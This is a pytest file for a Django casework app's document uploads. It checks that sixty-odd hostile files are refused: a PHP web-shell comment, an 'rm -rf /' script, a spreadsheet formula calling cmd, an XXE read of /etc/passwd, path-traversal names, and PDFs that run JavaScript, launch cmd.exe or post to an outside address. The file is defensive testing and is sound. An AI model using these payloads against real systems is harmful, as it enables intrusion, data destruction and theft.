"""Papers: what is taken and what is refused, how they are kept, and that nobody reads them past their case."""
import hashlib
import io
import resource

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.db import connection, transaction
from PIL import Image

from tests.casework.papers import archive, exif, packed_object, pdf, picture, png_bomb, sheets, upload
from tests.filings import draft
from tests.town import JAN_5
from xinyijian.audit.models import Event
from xinyijian.casework import documents, page_store
from xinyijian.casework.models import Document
from xinyijian.people import crypto

HTML, SVG = b"<html><script>alert(1)</script></html>", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100)
DOCX = archive("word/document.xml")

HOSTILE = {
    "nothing at all": (b"", "proof.jpg", "empty"),
    "too much": (picture() + bytes(10 * 1024 * 1024), "proof.jpg", "too_large"),
    "letters that run backwards": (picture(), "proof\u202egpj.exe", "name"),
    "a mark of direction": (picture(), "\u2066proof.jpg", "name"),
    "a line break": (picture(), "proof.jpg\r\nX-Evil: 1", "name"),
    "a zero byte": (picture(), "proof.jpg\0.png", "name"),
    "the folder above": (picture(), "../../etc/passwd.jpg", "name"),
    "another system's folder above": (picture(), "..\\..\\boot.jpg", "name"),
    "two endings, a program first": (picture(), "proof.exe.jpg", "name"),
    "two endings, a program last": (sheets(), "proof.pdf.js", "name"),
    "a page's ending": (picture(), "proof.php", "name"),
    "a drawing that runs scripts": (SVG, "proof.svg", "name"),
    "a drawing that calls itself a photo": (SVG, "proof.jpg", "form"),
    "a web page that calls itself a photo": (HTML, "proof.png", "form"),
    "a program that calls itself a photo": (b"MZ\x90\x00" + bytes(200), "proof.jpg", "form"),
    "an animation": (picture("GIF"), "proof.gif", "form"),
    "an animation's head with a script": (b"GIF89a" + HTML, "proof.jpg", "form"),
    "a word processor's file": (DOCX, "proof.docx", "form"),
    "an archive": (archive(), "proof.pdf", "form"),
    "plain text": (b"hello", "proof.jpg", "form"),
    "an iPhone's own format": (HEIC, "proof.heic", "heic"),
    "a photo with an archive behind it": (picture() + archive(), "proof.jpg", "two_in_one"),
    "a photo with a PDF behind it": (picture() + sheets(), "proof.jpg", "two_in_one"),
    "a photo with a web page behind it": (picture() + HTML, "proof.jpg", "two_in_one"),
    "a photo with a script in its comment": (picture(comment=b"<?php system($_GET[0]); ?>"), "proof.jpg", "two_in_one"),
    "a PDF with an archive behind it": (pdf() + archive(), "proof.pdf", "two_in_one"),
    "a PDF that runs a script": (pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "proof.pdf", "active"),
    "a script with a masked name": (pdf(b"/OpenAction << /S /J#61vaScript /#4a#53 (app.alert(1)) >>"), "proof.pdf", "active"),
    "a script in a packed object": (pdf(extra=packed_object(b"<< /S /JavaScript /JS (app.alert(1)) >>")), "proof.pdf", "active"),
    "a PDF that starts a program": (pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "proof.pdf", "active"),
    "a PDF with a file inside": (pdf(extra=b"7 0 obj << /Type /EmbeddedFile >> endobj"), "proof.pdf", "active"),
    "a form that sends itself": (pdf(b"/AA << /WC << /S /SubmitForm /F (http://192.0.2.1/) >> >>"), "proof.pdf", "active"),
    "a PDF with a password": (pdf(extra=b"").replace(b"/Root", b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (" + b"x" * 32 + b") /U ("
                              + b"y" * 32 + b") /P -4 >> /ID [(a) (a)] /Root"), "proof.pdf", "locked"),
    "a PDF of rubbish": (b"%PDF-1.7\n" + bytes(range(256)) * 20, "proof.pdf", "unreadable"),
    "a book": (sheets(31), "proof.pdf", "too_many_pages"),
    "a photo cut off": (picture(size=(600, 400))[:400], "proof.jpg", "unreadable"),
    "a photo of rubbish": (b"\xff\xd8\xff\xe0" + bytes(range(256)) * 20, "proof.jpg", "unreadable"),
    "a mark that runs letters backwards from the left": (picture(), "proof\u202dgpj.exe", "name"),
    "an absolute path": (picture(), "/etc/cron.d/proof.jpg", "name"),
    "a path of another system": (picture(), "C:\\\\boot\\\\proof.jpg", "name"),
    "a tab": (picture(), "proof\t.jpg", "name"),
    "a command": (picture(), "proof.jpg.bat", "name"),
    "a short cut": (picture(), "proof.lnk", "name"),
    "a packed drawing": (SVG, "proof.svgz", "name"),
    "a page of another maker": (picture(), "proof.aspx", "name"),
    "an archive of programs": (archive("a.class"), "proof.jar", "name"),
    "an archive in an archive": (archive("inner.zip", archive()), "proof.pdf", "form"),
    "an archive of a gigabyte of nothing": (archive("zeros", bytes(2_000_000)), "proof.jpg", "form"),
    "a program of another system": (b"\x7fELF\x02\x01\x01" + bytes(200), "proof.jpg", "form"),
    "a script of a shell": (b"#!/bin/sh\nrm -rf /\n", "proof.jpg", "form"),
    "a page description": (b"%!PS-Adobe-3.0\n(system) run\n", "proof.pdf", "form"),
    "a picture of another time": (picture("BMP"), "proof.jpg", "form"),
    "a scan of many pages": (picture("TIFF"), "proof.jpg", "form"),
    "a list that calculates": (b"=cmd|' /C calc'!A0,1\n", "proof.png", "form"),
    "an entity from elsewhere": (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "proof.jpg", "form"),
    "a picture with an archive behind it": (picture("PNG") + archive(), "proof.png", "two_in_one"),
    "a picture with a page in its frame": (picture("WEBP") + HTML, "proof.webp", "two_in_one"),
    "a PDF that imports data": (pdf(b"/OpenAction << /S /ImportData /F (x.fdf) >>"), "proof.pdf", "active"),
    "a PDF that opens another": (pdf(b"/OpenAction << /S /GoToE /F (x.pdf) >>"), "proof.pdf", "active"),
    "a PDF with a film": (pdf(extra=b"7 0 obj << /Type /Annot /Subtype /RichMedia >> endobj"), "proof.pdf", "active"),
    "a form of another maker": (pdf(b"/AcroForm << /XFA (x) >>"), "proof.pdf", "active"),
    "a picture cut off": (picture("PNG", size=(600, 400))[:60], "proof.png", "unreadable"),
    "a PDF without a page": (b"%PDF-1.7\ntrailer << >>\n%%EOF\n", "proof.pdf", "unreadable"),
    "a picture that unpacks to 400 million pixels": (png_bomb(), "proof.png", "too_many_pixels"),
}


@pytest.fixture
def folder(settings, tmp_path):
    settings.DATA_DIR = tmp_path
    return tmp_path / "documents"


@pytest.fixture
def docket(town, folder):
    return draft(town, at=JAN_5, papers=()).docket


def give(docket, data, name="proof.jpg", kind="residence_proof", by=None):
    return documents.receive(docket, kind, upload(data, name), by=by or docket.opened_by, at=JAN_5)


def test_there_are_sixty_of_them():
    assert len(HOSTILE) >= 60


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_or_unusable_file_is_refused_in_clear_words_and_nothing_is_kept(what, docket, folder):
    data, name, code = HOSTILE[what]
    with pytest.raises(ValidationError) as no:
        give(docket, data, name)
    assert no.value.code == code
    assert sum(str(no.value.message).count(stop) for stop in ".。") >= 2  # what is wrong and why, then what to do
    assert not Document.objects.exists() and not list(folder.rglob("*.*"))


@pytest.mark.parametrize(
    ("data", "name", "mime", "pages"),
    [
        (picture(), "proof.jpg", "image/jpeg", 1),
        (picture("PNG"), "截图 2026.1.5.png", "image/png", 1),
        (picture("PNG", mode="RGBA", colour=(0, 0, 0, 0)), "a.png", "image/png", 1),
        (picture("PNG", mode="P", colour=3), "a.png", "image/png", 1),
        (picture("WEBP"), "a.webp", "image/webp", 1),
        (picture("WEBP"), "wrong ending.jpg", "image/webp", 1),
        (picture(mode="L", colour=9), "no ending", "image/jpeg", 1),
        (picture(mode="CMYK", colour=(0, 0, 0, 0)), "a.jpeg", "image/jpeg", 1),
        (sheets(), "a.pdf", "application/pdf", 1),
        (sheets(3), "a.pdf", "application/pdf", 3),
        (pdf(b"/OpenAction [3 0 R /Fit]"), "a.pdf", "application/pdf", 1),
    ],
)
def test_photos_and_pdfs_become_page_pictures(data, name, mime, pages, docket):
    paper = give(docket, data, name)
    assert (paper.mime, paper.pages, paper.size, paper.original_name) == (mime, pages, len(data), name)
    assert paper.sha256 == hashlib.sha256(data).hexdigest()
    assert (paper.person_id, paper.received_by, paper.received_at) == (docket.person_id, docket.opened_by, JAN_5)
    for number in range(1, pages + 1):
        with Image.open(io.BytesIO(documents.page(paper, number))) as page:
            assert page.format == "JPEG" and max(page.size) <= 2000


def test_a_photo_loses_place_and_camera_and_stands_upright(docket):
    data = picture(size=(60, 40), exif=exif())
    assert b"SECRETCAMERA" in data
    page = documents.page(give(docket, data), 1)
    with Image.open(io.BytesIO(page)) as image:
        assert image.size == (40, 60) and not image.getexif()
    assert b"SECRETCAMERA" not in page


def test_what_is_transparent_becomes_paper(docket):
    paper = give(docket, picture("PNG", mode="RGBA", colour=(0, 0, 0, 0)), "a.png")
    with Image.open(io.BytesIO(documents.page(paper, 1))) as image:
        assert image.getpixel((5, 5)) == (255, 255, 255)


def test_pages_lie_sealed_under_a_name_that_says_nothing(docket, folder):
    paper = give(docket, picture(), "身份证.jpg")
    (file,) = [path for path in folder.rglob("*.*") if path.is_file()]
    assert b"JFIF" not in file.read_bytes() and docket.number not in str(file) and "身份证" not in str(file)
    assert file.stat().st_mode & 0o077 == 0
    with connection.cursor() as cursor:
        cursor.execute("SELECT original_name FROM casework_document WHERE id = %s", [paper.pk])
        assert "身份证" not in cursor.fetchone()[0]


def test_an_altered_or_exchanged_page_is_not_shown(docket, folder):
    first, second = give(docket, picture()), give(docket, picture(colour="red"))
    one, two = (folder / paper.stored[:2] / f"{paper.stored}.1" for paper in (first, second))
    one.write_bytes(two.read_bytes())
    with pytest.raises(crypto.Unreadable):
        documents.page(first, 1)
    data = two.read_bytes()
    two.write_bytes(data[:-1] + bytes([data[-1] ^ 1]))
    with pytest.raises(crypto.Unreadable):
        documents.page(second, 1)


def test_the_same_paper_for_the_same_purpose_is_one_row(docket, folder):
    assert give(docket, picture()) == give(docket, picture())
    assert Document.objects.count() == 1


def test_a_paper_given_before_is_used_again_and_says_so(docket, town, folder):
    first = give(docket, picture())
    other = draft(town, at=JAN_5, papers=(), person=town.mother_person, by=town.clerk).docket
    again = give(other, picture(), by=town.clerk)
    assert again.reused_from == first and again.stored == first.stored and documents.page(again, 1) == documents.page(first, 1)
    assert len([path for path in folder.rglob("*.*") if path.is_file()]) == 1


def test_the_same_bytes_of_another_person_are_kept_apart(docket, town):
    first = give(docket, picture())
    theirs = give(draft(town, at=JAN_5, papers=(), person=town.stranger_person, by=town.stranger).docket, picture())
    assert theirs.reused_from is None and theirs.stored != first.stored


def test_a_full_disk_is_told_and_leaves_nothing_half_done(docket, folder):
    """A real limit on the size of files stands for the full disk."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (100, hard))
    try:
        with pytest.raises(ValidationError) as no:
            give(docket, sheets(2), "a.pdf")
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert no.value.code == "no_room"
    assert not Document.objects.exists() and not [path for path in folder.rglob("*.*") if path.is_file()]
    assert give(docket, sheets(2), "a.pdf").pages == 2


def test_files_of_a_transaction_that_failed_are_swept(docket, folder, capsys):
    kept = give(docket, picture())
    with pytest.raises(ZeroDivisionError), transaction.atomic():
        give(docket, sheets(2), "a.pdf")
        raise ZeroDivisionError
    assert len([path for path in folder.rglob("*.*") if path.is_file()]) == 3
    call_command("sweep_documents")  # too fresh: its transaction might still be running
    assert len([path for path in folder.rglob("*.*") if path.is_file()]) == 3
    call_command("sweep_documents", older_than=0)
    assert [path.name for path in folder.rglob("*.*") if path.is_file()] == [f"{kept.stored}.1"]
    assert documents.page(kept, 1)


def test_a_lost_page_is_found_out(docket):
    paper = give(docket, sheets(2), "a.pdf")
    assert documents.incomplete() == []
    page_store.remove(paper.stored)
    assert documents.incomplete() == [paper]


def page_of(client, user, paper, query=""):
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    return client.get(f"/documents/{paper.uuid}/{query}")


@pytest.mark.parametrize("who", ["lan", "mother", "clerk"])
def test_who_sees_the_case_reads_the_paper_and_leaves_an_event(who, docket, town, client):
    paper = give(docket, sheets(2), "a.pdf")
    answer = page_of(client, getattr(town, who), paper, "?page=2")
    assert answer.status_code == 200 and answer["Content-Type"] == "image/jpeg"
    event = Event.objects.filter(kind="documents.read").get()
    assert (event.object_id, event.person_id, event.by_id, event.data) == (paper.pk, paper.person_id, getattr(town, who).pk, {"page": 2})
    assert event.on_behalf_of_id == (paper.person_id if who == "lan" else None)


@pytest.mark.parametrize("who", ["stranger", "elsewhere", "physician"])
def test_for_everybody_else_the_paper_does_not_exist(who, docket, town, client):
    paper = give(docket, picture())
    assert page_of(client, getattr(town, who), paper).status_code == 404
    assert not Event.objects.filter(kind="documents.read").exists()


def test_nobody_reads_without_signing_in(docket, client):
    answer = client.get(f"/documents/{give(docket, picture()).uuid}/")
    assert answer.status_code == 302 and answer["Location"].startswith("/sign-in/")


@pytest.mark.parametrize("query", ["?page=0", "?page=2", "?page=-1", "?page=x", "?page=１", "?page=99999999999999999999"])
def test_a_page_that_is_not_there_is_not_found(query, docket, town, client):
    assert page_of(client, town.lan, give(docket, picture()), query).status_code == 404


def test_a_served_page_can_do_nothing(docket, town, client):
    answer = page_of(client, town.lan, give(docket, picture(), "身份证 \"x\".jpg"))
    assert answer["X-Content-Type-Options"] == "nosniff" and "no-store" in answer["Cache-Control"]
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert answer["Content-Disposition"].startswith("inline; filename=") and "身份证" not in answer["Content-Disposition"]
